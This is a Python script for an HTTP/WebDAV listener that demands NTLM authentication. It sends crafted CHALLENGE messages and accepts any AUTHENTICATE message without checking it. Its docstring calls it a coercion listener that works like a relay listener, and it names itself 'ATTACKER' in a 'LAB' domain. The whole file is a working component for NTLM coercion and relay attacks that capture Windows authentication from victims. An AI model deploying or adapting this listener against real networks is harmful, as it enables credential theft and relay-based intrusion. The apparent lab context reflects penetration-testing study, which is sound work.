"""A WebDAV-style listener that asks for NTLM: the HTTP variant of a coercion listener.

  ntlm_http_listener.py --port 8080

Answers a request without credentials with 401 "WWW-Authenticate: NTLM", an NTLMSSP NEGOTIATE
with 401 and a CHALLENGE (ntlm_server.py, MS-NLMP 2.2.1.2), an AUTHENTICATE with
207 (PROPFIND) or 200. It checks nothing: like a relay listener it only wants the AUTHENTICATE.
"""
from __future__ import annotations

import argparse
import base64
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from ntlm_server import challenge, negotiate_flags

NETBIOS_NAME, DOMAIN = "ATTACKER", "LAB"
MESSAGE_NEGOTIATE, MESSAGE_AUTHENTICATE = 1, 3      # MS-NLMP 2.2.1: MessageType
NTLMSSP_HEADER = 12                                 # "NTLMSSP\0" + MessageType


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        scheme, _, token = (self.headers.get("Authorization") or "").partition(" ")
        blob = base64.b64decode(token) if scheme.upper() == "NTLM" and token else b""
        kind = int.from_bytes(blob[8:NTLMSSP_HEADER], "little") if len(blob) >= NTLMSSP_HEADER else 0
        if kind == MESSAGE_AUTHENTICATE:
            self.send_response(207 if self.command == "PROPFIND" else 200)
            header = None
        else:
            self.send_response(401)
            header = "NTLM" if kind != MESSAGE_NEGOTIATE else \
                "NTLM " + base64.b64encode(challenge(negotiate_flags(blob), NETBIOS_NAME, DOMAIN)).decode()
        if header:
            self.send_header("WWW-Authenticate", header)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_PROPFIND = do_OPTIONS = _answer


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, default=8080)
    opts = p.parse_args(argv)
    ThreadingHTTPServer(("0.0.0.0", opts.port), Handler).serve_forever()
    return 0


if __name__ == "__main__":
    sys.exit(main())
